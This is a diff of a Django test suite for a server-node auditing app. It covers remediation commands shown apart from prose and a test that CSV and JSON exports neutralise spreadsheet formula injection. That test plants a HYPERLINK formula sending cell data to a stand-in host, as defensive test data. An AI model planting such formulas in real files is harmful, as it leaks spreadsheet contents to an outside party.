@@ -51,7 +51,8 @@ def audited():
             summary=f"ntp {ntp}",
             evidence="none of chronyd found",
             position=3,
-            remediation="" if ntp == "pass" else "apt-get install -y chrony",
+            remediation="" if ntp == "pass" else "Install chrony and start it at boot.",
+            commands=[] if ntp == "pass" else ["apt-get install -y chrony"],
         )
         NetworkPath.objects.create(
             audit=audit,
@@ -150,7 +151,7 @@ def test_node_page_and_script(admin_client, audited):
     assert "NVIDIA H100 80GB HBM3" in body and "time.ntp" in body and "<details><summary>Evidence</summary>" in body
     assert 'data-copy="' in body and "compare with latest" in body
     script = admin_client.get(f"/nodes/{worker.pk}/remediation.sh").content.decode()
-    assert script.startswith("#!/bin/sh") and "apt-get install -y chrony" in script
+    assert script.startswith("#!/bin/sh") and "\n  apt-get install -y chrony\n" in script
 
 
 def test_diff_shows_changed_check_device_and_closed_path(admin_client, audited):
@@ -217,3 +218,26 @@ def test_account_page_creates_a_token_once_and_revokes_only_own(client, django_u
     client.post("/account/tokens/", {"action": "revoke", "token": mine.pk})
     assert api_token_authenticate(token) is None and api_token_authenticate is not None
     assert ApiToken.objects.get(pk=foreign.pk).revoked is None
+
+
+def test_exports_neutralise_formula_cells(admin_client, audited):
+    # given: a node whose os-release PRETTY_NAME is a spreadsheet formula
+    worker = audited["worker"]
+    worker.last_facts = {"os": {"pretty_name": '=HYPERLINK("http://x.invalid/?"&A1,"Ubuntu")'}}
+    worker.save(update_fields=["last_facts"])
+    # when
+    csv_body = admin_client.get("/nodes/", {"export": "csv"}).content.decode()
+    rows = json.loads(admin_client.get("/nodes/", {"export": "json"}).content)
+    # then: the cell starts with a quote, so a spreadsheet shows it as text
+    assert "'=HYPERLINK(" in csv_body and ",=HYPERLINK(" not in csv_body and '"=HYPERLINK(' not in csv_body
+    assert next(r for r in rows if r["name"] == "w1")["os"].startswith("'=HYPERLINK(")
+
+
+def test_node_page_shows_commands_apart_from_the_explanation(admin_client, audited):
+    # when
+    body = admin_client.get(f"/nodes/{audited['worker'].pk}/").content.decode()
+    # then: the explanation is prose; the copyable block holds only the command
+    assert "<strong>What to do:</strong> Install chrony and start it at boot.</p>" in body
+    block = body.split('<pre class="cmd" id="', 1)[1].split(">", 1)[1].split("</pre>", 1)[0]
+    assert block == "apt-get install -y chrony"
+    assert 'aria-label="Copy the commands for time.ntp"' in body
